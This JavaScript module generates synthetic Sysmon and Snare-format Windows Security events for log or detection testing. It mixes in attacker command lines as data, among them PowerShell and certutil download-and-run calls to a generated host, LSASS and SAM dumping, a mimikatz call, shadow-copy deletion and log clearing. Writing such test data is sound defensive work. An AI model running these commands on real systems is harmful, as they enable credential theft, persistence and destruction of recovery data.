// Windows as shippers send it: Sysmon process creations and file events as flat JSON, and the Security log as Snare's text.
import { DOMAIN } from './words.mjs';

const SYSTEM32 =
  'svchost.exe conhost.exe taskhostw.exe RuntimeBroker.exe backgroundTaskHost.exe dllhost.exe SearchProtocolHost.exe SearchFilterHost.exe sppsvc.exe WmiPrvSE.exe smartscreen.exe audiodg.exe consent.exe spoolsv.exe dwm.exe fontdrvhost.exe ctfmon.exe sihost.exe LogonUI.exe winlogon.exe lsass.exe services.exe wininit.exe csrss.exe smss.exe userinit.exe taskmgr.exe mmc.exe notepad.exe calc.exe mspaint.exe SnippingTool.exe msiexec.exe TiWorker.exe TrustedInstaller.exe MoUsoCoreWorker.exe UsoClient.exe wuauclt.exe defrag.exe cleanmgr.exe compattelrunner.exe DeviceCensus.exe gpupdate.exe gpscript.exe w32tm.exe ipconfig.exe hostname.exe tasklist.exe ping.exe route.exe nslookup.exe tzsync.exe WerFault.exe wermgr.exe werfault.exe provtool.exe LockApp.exe ApplicationFrameHost.exe SystemSettingsBroker.exe SecurityHealthService.exe WUDFHost.exe upfc.exe vds.exe vssvc.exe alg.exe dasHost.exe lpremove.exe makecab.exe ngentask.exe printui.exe rdpclip.exe SgrmBroker.exe slui.exe unsecapp.exe wlanext.exe wsqmcons.exe'.split(
    ' ',
  );
const VENDORS = [
  ...['Microsoft Office\\root\\Office16', 'Microsoft Visual Studio\\2022\\Common7\\IDE', 'Google\\Chrome'],
  ...['Mozilla Firefox', 'Adobe\\Acrobat DC', '7-Zip', 'Git\\usr\\bin', 'Zoom\\bin', 'Dell\\SupportAssist'],
  ...['Lenovo\\Vantage', 'HP\\Support', 'Intel\\DSA', 'NVIDIA Corporation\\NvContainer', 'Realtek\\Audio'],
  ...['VMware\\VMware Tools', 'Citrix\\ICA Client', 'Cisco\\Secure Client', 'Fortinet\\FortiClient'],
  ...[
    'Sophos\\Endpoint',
    'CrowdStrike',
    'Qualys\\Agent',
    'Tenable\\Agent',
    'Splunk\\Forwarder',
    'Elastic\\Agent',
  ],
  ...[
    'Datadog\\Agent',
    'Veeam\\Endpoint',
    'SAP\\FrontEnd\\SAPgui',
    'Autodesk\\AutoCAD 2025',
    'JetBrains\\Rider',
  ],
  ...[
    'PostgreSQL\\16\\bin',
    'MySQL\\Server 8.0\\bin',
    'Java\\jdk-21\\bin',
    'nodejs',
    'Docker\\cli',
    'WinSCP',
  ],
];
const PARTS = 'agent client helper host monitor service sync tray update worker'.split(' ');
const EXTENSIONS =
  'docx xlsx pptx pdf txt log tmp json xml png jpg dat db etl cab msg csv html css ts cache bin ini lock bak'.split(
    ' ',
  );
const LEVELS = ['Medium', 'Medium', 'Medium', 'High', 'System', 'System', 'Low'];
const SYSMON = 'Microsoft-Windows-Sysmon/Operational';

/** Events as objects, about 800 bytes of JSON each. */
export function processCreations(words, suspicious) {
  const programs = windowsPrograms(words);
  return () => {
    const attack = words.chance(suspicious) ? words.pick(ATTACKS)(words) : null;
    const program = attack === null ? words.pickCommon(programs) : systemProgram(attack[0]);
    const parent = words.pickCommon(programs);
    const user = words.user();
    return {
      EventID: 1,
      Channel: SYSMON,
      Computer: words.host(),
      UtcTime: utcTime(words),
      ProcessGuid: words.guid(),
      ProcessId: words.pid(),
      Image: program.path,
      Description: program.description,
      OriginalFileName: program.original,
      CommandLine: attack === null ? program.commandLine(user) : attack[1],
      CurrentDirectory: words.chance(0.6)
        ? 'C:\\Windows\\system32\\'
        : `C:\\Users\\${user}\\${words.name()}\\`,
      User: `${DOMAIN}\\${user}`,
      LogonId: `0x${words.hex(6)}`,
      IntegrityLevel: words.pick(LEVELS),
      Hashes: program.hashes ?? hashes(words),
      ParentProcessId: words.pid(),
      ParentImage: parent.path,
      ParentCommandLine: parent.commandLine(user),
    };
  };
}

/** Events as objects, about 400 bytes of JSON each. */
export function fileEvents(words, suspicious) {
  const programs = windowsPrograms(words);
  return () => {
    const user = words.user();
    return {
      EventID: 11,
      Channel: SYSMON,
      Computer: words.host(),
      RuleName: '-',
      UtcTime: utcTime(words),
      ProcessGuid: words.guid(),
      ProcessId: words.pid(),
      Image: words.pickCommon(programs).path,
      TargetFilename: words.chance(suspicious) ? words.pick(DROPS)(words, user) : filePath(words, user),
      CreationUtcTime: utcTime(words),
      User: `${DOMAIN}\\${user}`,
    };
  };
}

/** Records of the Security log as one text each, tab-separated as Snare sends them; about 900 bytes. */
export function securityTexts(words, suspicious) {
  const programs = windowsPrograms(words);
  const kinds = [creationText, creationText, logonText, logonText, privilegeText, logoffText];
  return () => {
    const attack = words.chance(suspicious) ? words.pick(ATTACKS)(words) : null;
    const [id, task, text] =
      attack === null
        ? words.pick(kinds)(words, words.pickCommon(programs))
        : creationText(words, { path: `C:\\Windows\\System32\\${attack[0]}`, commandLine: () => attack[1] });
    const host = words.host();
    const head = [host, 'MSWinEventLog', 1, 'Security', words.n(900_000), stamp(words), id];
    const tail = ['Microsoft-Windows-Security-Auditing', 'N/A', 'N/A', 'Success Audit', host, task, text, ''];
    return [...head, ...tail].join('\t');
  };
}

/** Hundreds of programs: those of Windows first, then what vendors install, then users' own. */
function windowsPrograms(words) {
  const installed = VENDORS.flatMap((vendor) =>
    PARTS.map((part) => {
      const product = vendor.split('\\').at(-1);
      const name = `${product.replace(/\W/g, '')}${part[0].toUpperCase()}${part.slice(1)}.exe`;
      return program(
        words,
        `C:\\Program Files${words.chance(0.3) ? ' (x86)' : ''}\\${vendor}\\${name}`,
        `${product} ${part}`,
      );
    }),
  );
  const own = words.list(80, () =>
    program(words, `C:\\Apps\\${words.word()}\\${words.word()}${words.word()}.exe`, words.name()),
  );
  return [
    ...SYSTEM32.map((name) => ({
      ...systemProgram(name),
      ...arguments_(words, `C:\\Windows\\System32\\${name}`),
      hashes: hashes(words),
    })),
    ...installed,
    ...own,
  ];
}

function systemProgram(name) {
  return {
    path: `C:\\Windows\\System32\\${name}`,
    original: name.toUpperCase(),
    description: `${name.replace('.exe', '')} for Windows`,
  };
}

function program(words, path, description) {
  const original = path.slice(path.lastIndexOf('\\') + 1);
  return {
    path,
    original,
    description,
    ...arguments_(words, path),
    hashes: hashes(words),
  };
}

/** A program has a few habits; what it is given changes with each start. */
function arguments_(words, path) {
  const habits = words.list(4, () => words.pick(HABITS));
  const quoted = path.includes(' ') ? `"${path}"` : path;
  return { commandLine: (user) => `${quoted} ${words.pick(habits)(words, user)}`.trimEnd() };
}

const HABITS = [
  () => '',
  () => '',
  (w) => `-s ${w.word()}`,
  (w) => `-k ${w.word()}Group -p -s ${w.word()}Svc`,
  (w) =>
    `--type=renderer --lang=${w.pick(['en-US', 'de', 'fr', 'ja'])} --renderer-client-id=${w.n(900)} --launch-time-ticks=${w.n(1e9)} --field-trial-handle=${w.n(9999)},i,${w.n(1e9)},${w.n(1e9)}`,
  (w) => `/service:${w.word()} /id:${w.hex(8)} /timeout:${w.n(600)}`,
  () => '-Embedding',
  (w) => `/Processid:${w.guid().toUpperCase()}`,
  (w, user) => `"${filePath(w, user)}"`,
  (w, user) =>
    `--config "C:\\ProgramData\\${w.word()}\\${w.slug()}.json" --log C:\\Users\\${user}\\AppData\\Local\\${w.word()}\\${w.slug()}.log`,
  (w) =>
    `--port=${w.port()} --parent-pid ${w.pid()} --session ${w.hex(12)} --channel=${w.pick(['stable', 'beta'])}`,
  (w) =>
    `sync --project ${w.slug()} --since ${2020 + w.n(7)}-0${1 + w.n(9)}-${10 + w.n(19)} --limit ${w.n(5000)}`,
  (w) => `-s ${w.word()} -c ${w.n(64)} -u https://${w.word()}.contoso.example/api/${w.slug()}`,
  (w) => `/n /${w.word()} "\\\\${w.host()}\\${w.word()}\\${w.name()}.${w.pick(EXTENSIONS)}"`,
];

/** File name of a Windows program and its command line: what SigmaHQ has rules for. */
const ATTACKS = [
  (w) => ['powershell.exe', `powershell.exe -NoP -W Hidden -enc ${w.base64(60)}`],
  (w) => [
    'powershell.exe',
    `powershell -c "IEX(New-Object Net.WebClient).DownloadString('http://${w.stranger()}/${w.slug()}.ps1')"`,
  ],
  (w) => [
    'certutil.exe',
    `certutil -urlcache -split -f http://${w.stranger()}/${w.slug()}.exe C:\\Users\\Public\\${w.word()}.exe`,
  ],
  () => ['vssadmin.exe', 'vssadmin delete shadows /all /quiet'],
  (w) => ['reg.exe', `reg save HKLM\\SAM C:\\Windows\\Temp\\${w.word()}.hiv`],
  (w) => [
    'rundll32.exe',
    `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${w.pid()} C:\\Windows\\Temp\\${w.word()}.dmp full`,
  ],
  (w) => ['mshta.exe', `mshta.exe http://${w.stranger()}/${w.slug()}.hta`],
  (w) => ['regsvr32.exe', `regsvr32 /s /n /u /i:http://${w.stranger()}/${w.word()}.sct scrobj.dll`],
  (w) => [
    'bitsadmin.exe',
    `bitsadmin /transfer ${w.word()} /download /priority high http://${w.stranger()}/${w.slug()}.exe C:\\Users\\Public\\${w.word()}.exe`,
  ],
  (w) => [
    'schtasks.exe',
    `schtasks /create /sc minute /mo 5 /tn ${w.word()} /tr "powershell -w hidden -f C:\\Users\\Public\\${w.word()}.ps1"`,
  ],
  (w) => ['wmic.exe', `wmic /node:${w.client()} process call create "cmd.exe /c ${w.word()}.exe"`],
  () => ['whoami.exe', 'whoami /all'],
  () => ['nltest.exe', 'nltest /domain_trusts /all_trusts'],
  (w) => ['net.exe', `net user ${w.word()} ${w.hex(10)} /add`],
  (w) => ['net.exe', `net localgroup administrators ${w.word()} /add`],
  () => ['wevtutil.exe', 'wevtutil cl Security'],
  (w) => ['cmd.exe', `cmd.exe /c echo ${w.word()} > \\\\.\\pipe\\${w.word()}`],
  () => ['bcdedit.exe', 'bcdedit /set {default} recoveryenabled no'],
  () => ['cmd.exe', 'cmd.exe /c mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
  (w) => [
    'netsh.exe',
    `netsh interface portproxy add v4tov4 listenport=${w.port()} connectport=3389 connectaddress=${w.client()}`,
  ],
];

/** Files that SigmaHQ has rules for. */
const DROPS = [
  (w, user) =>
    `C:\\Users\\${user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\${w.word()}.vbs`,
  (w) => `C:\\Windows\\Temp\\lsass_${w.n(900)}.dmp`,
  (w) => `C:\\Users\\Public\\${w.word()}.exe`,
  (w) => `C:\\inetpub\\wwwroot\\${w.word()}.aspx`,
  () => 'C:\\Windows\\System32\\PSEXESVC.exe',
  (w, user) => `C:\\Users\\${user}\\Downloads\\${w.word()}.pdf.exe`,
  (w) => `C:\\Windows\\System32\\Tasks\\${w.word()}`,
  (w, user) => `C:\\Users\\${user}\\AppData\\Local\\Temp\\${w.word()}.iso`,
];

function filePath(words, user) {
  const file = `${words.name()}.${words.pickCommon(EXTENSIONS)}`;
  switch (words.n(5)) {
    case 0:
      return `C:\\Users\\${user}\\Documents\\${words.word()}\\${file}`;
    case 1:
      return `C:\\Users\\${user}\\AppData\\Local\\${words.word()}\\Cache\\${words.hex(2)}\\${words.hex(16)}`;
    case 2:
      return `C:\\ProgramData\\${words.word()}\\${words.word()}\\${file}`;
    case 3:
      return `D:\\Shares\\${words.word()}\\${words.name()}\\${file}`;
    default:
      return `C:\\Program Files\\${words.pick(VENDORS)}\\${words.word()}\\${file}`;
  }
}

function creationText(words, { path, commandLine }) {
  const user = words.user();
  return [
    4688,
    'Process Creation',
    `A new process has been created.  ${subject(words, user)}  Target Subject:  Security ID:  S-1-0-0  Account Name:  -  Account Domain:  -  Logon ID:  0x0  Process Information:  New Process ID:  0x${words.hex(4)}  New Process Name:  ${path}  Token Elevation Type:  %%193${6 + words.n(3)}  Mandatory Label:  S-1-16-8192  Creator Process ID:  0x${words.hex(4)}  Creator Process Name:  C:\\Windows\\System32\\${words.pickCommon(SYSTEM32)}  Process Command Line:  ${commandLine(user)}`,
  ];
}

function logonText(words) {
  const user = words.user();
  return [
    4624,
    'Logon',
    `An account was successfully logged on.  ${subject(words, `${words.host()}$`)}  Logon Information:  Logon Type:  ${words.pick([2, 3, 3, 3, 5, 7, 10, 11])}  Restricted Admin Mode:  -  Virtual Account:  No  Elevated Token:  ${words.pick(['Yes', 'No'])}  Impersonation Level:  Impersonation  New Logon:  ${account(words, user)}  Logon GUID:  ${words.guid()}  Process Information:  Process ID:  0x${words.hex(3)}  Process Name:  C:\\Windows\\System32\\${words.pickCommon(SYSTEM32)}  Network Information:  Workstation Name:  ${words.host()}  Source Network Address:  ${words.client()}  Source Port:  ${words.port()}  Detailed Authentication Information:  Logon Process:  ${words.pick(['Kerberos', 'User32', 'Advapi'])}  Authentication Package:  Negotiate  Key Length:  0`,
  ];
}

function privilegeText(words) {
  const privileges = 'Security TakeOwnership LoadDriver Backup Restore SystemEnvironment Impersonate'.split(
    ' ',
  );
  return [
    4672,
    'Special Logon',
    `Special privileges assigned to new logon.  ${subject(words, words.user())}  Privileges:  ${privileges
      .filter(() => words.chance(0.7))
      .map((name) => `Se${name}Privilege`)
      .join('  ')}`,
  ];
}

function logoffText(words) {
  return [
    4634,
    'Logoff',
    `An account was logged off.  ${subject(words, words.user())}  Logon Type:  3  This event is generated when a logon session is destroyed. It may be positively correlated with a logon event using the Logon ID value.`,
  ];
}

function subject(words, user) {
  return `Subject:  ${account(words, user)}`;
}

function account(words, user) {
  return `Security ID:  S-1-5-21-${words.n(1e9)}-${words.n(1e9)}-${words.n(1e9)}-${1000 + words.n(9000)}  Account Name:  ${user}  Account Domain:  ${DOMAIN}  Logon ID:  0x${words.hex(6)}`;
}

function hashes(words) {
  return `SHA256=${words.hex(64).toUpperCase()}`;
}

function utcTime(words) {
  return new Date(Date.UTC(2026, 10, 20) + words.n(86_400_000)).toISOString().replace('T', ' ').slice(0, 23);
}

function stamp(words) {
  const [day, date, month, year, time] = new Date(Date.UTC(2026, 10, 20) + words.n(86_400_000))
    .toUTCString()
    .replace(',', '')
    .split(' ');
  return `${day} ${month} ${date} ${time} ${year}`;
}
